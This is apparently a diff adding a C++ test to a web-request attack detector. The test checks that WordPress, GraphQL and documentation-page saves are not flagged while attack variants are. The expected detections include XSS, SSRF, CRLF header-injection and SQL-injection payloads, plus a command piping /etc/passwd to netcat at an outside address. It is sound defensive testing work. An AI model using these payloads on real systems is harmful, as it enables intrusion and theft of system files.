@@ -294,5 +294,47 @@ TEST_F(ContextGradingTest, DashboardsAndSelfHostedServicesAreNotInjections) {
   EXPECT_TRUE(json(R"J({"Message": "{\"user\": \"x' union select password from users--\"}"})J"));
 }
 
+// Shapes of CMS, wiki and GraphQL traffic (WordPress exports and themes, Wiki.js and Vendure
+// clients: public sources that are not in the corpus).
+TEST_F(ContextGradingTest, RichTextAndDocumentationSavesAreNotInjections) {
+  // A cover block's background image; a style that loads script or breaks out still counts.
+  EXPECT_FALSE(json(R"J({"content": "<!-- wp:cover --><div role=\"img\" style=\"background-position:50% 50%;background-image:url(https://example.com/a.jpg)\"></div><!-- /wp:cover -->"})J"));
+  EXPECT_TRUE(json(R"J({"content": "<div style=\"background-image:url(javascript:alert(1))\">x</div>"})J"));
+  EXPECT_TRUE(json(R"J({"content": "<div style=\"background-image: url(http://evil.example/xss.js)\">x</div>"})J"));
+  EXPECT_TRUE(json(R"J({"content": "<div style=\"font-family:foo{bar;background:url(http://x.example/}\">x</div>"})J"));
+  // The classic editor's form: the page it was opened from, and a post whose images live on
+  // the development site; a fetchable URL parameter still counts.
+  std::vector<Header> form{Header{"Content-Type", "application/x-www-form-urlencoded"}};
+  const auto post = [&](std::string_view body) {
+    RequestView r{.method = "POST", .target = "/wp-admin/post.php", .versionMinor = 1,
+                  .headers = form, .body = body, .bodyTruncated = false};
+    return registered(engine_->inspect(r)).attack();
+  };
+  EXPECT_FALSE(post("action=editpost&referredby=http%3A%2F%2Flocalhost%3A8888%2Fwp-admin%2Fedit.php"
+                    "&_wp_original_http_referer=http%3A%2F%2F192.168.1.40%3A8080%2Fwp-admin%2Fedit.php"));
+  EXPECT_FALSE(post("action=editpost&content=%3C!--+wp%3Aimage+--%3E%3Cfigure%3E%3Cimg+src%3D%22"
+                    "http%3A%2F%2Flocalhost%3A8888%2Fwp-content%2Fuploads%2Fa.jpg%22+alt%3D%22%22%2F%3E"
+                    "%3C%2Ffigure%3E%3C!--+%2Fwp%3Aimage+--%3E%3C!--+wp%3Aparagraph+--%3E%3Cp%3EA+"
+                    "photo+of+the+harbour+at+dawn%2C+taken+from+the+old+pier.%3C%2Fp%3E%3C!--+%2F"
+                    "wp%3Aparagraph+--%3E"));
+  EXPECT_TRUE(post("action=fetch&url=http%3A%2F%2F127.0.0.1%3A6379%2F"));
+  // A news post that names a configuration file in its prose.
+  EXPECT_FALSE(json(R"J({"content": "<!-- wp:paragraph --><p>On 6 May, 2016, WordPress 4.0.11 was released with a fix for how <code>wp-config.php</code> is read when <a href=\"https://wordpress.org/support/\">the site</a> moves to a new host.</p><!-- /wp:paragraph -->"})J"));
+  // A GraphQL selection with a "location" field is no response header; a line break before
+  // a Location header with a URL still splits a response.
+  EXPECT_FALSE(json(R"J({"query": "mutation ($location: String!) {\n  users {\n    updateProfile(\n      location: $location\n    ) {\n      succeeded\n    }\n  }\n}"})J"));
+  EXPECT_TRUE(get("/r?next=%2F%0D%0ALocation%3A+http%3A%2F%2Fevil.example%2F"));
+  // GraphQL fields take named arguments; a SQL function takes positional ones.
+  EXPECT_FALSE(json(R"J({"query": "mutation ($id: Int!, $editor: String!) {\n  pages {\n    convert(id: $id, editor: $editor) {\n      message\n    }\n  }\n}"})J"));
+  EXPECT_TRUE(get("/p?id=1+and+convert(int%2C(select+top+1+name+from+sysobjects))"));
+  // A documentation page: prose with quotes, slashes, links and a price around fenced code.
+  // The same page with a command outside its code blocks still counts.
+  const std::string page =
+      R"J(---\ntitle: \"Deploying to a VM\"\n---\n\n[App Platform](https://example.com/app) runs your server; it costs around $22 per month.\nYou need a username/email + password and a \"deploy\" key.\n\n```sh\ncd /srv/app && npm ci && npm run build; pm2 restart all | tee /tmp/log\n```\n\nThen open the admin UI and check the logs for errors before you continue.\n\n```tsx\n<button onClick={() => setOpen(true)}>Open</button>\n```\n)J";
+  EXPECT_FALSE(json("{\"content\": \"" + page + "\"}"));
+  EXPECT_TRUE(json("{\"content\": \"" + page + "x; cat /etc/passwd | nc 198.51.100.7 4444\"}"));
+  EXPECT_TRUE(json("{\"content\": \"" + page + "<img src=x onerror=alert(1)>\"}"));
+}
+
 } // namespace
 } // namespace bulwark::detect
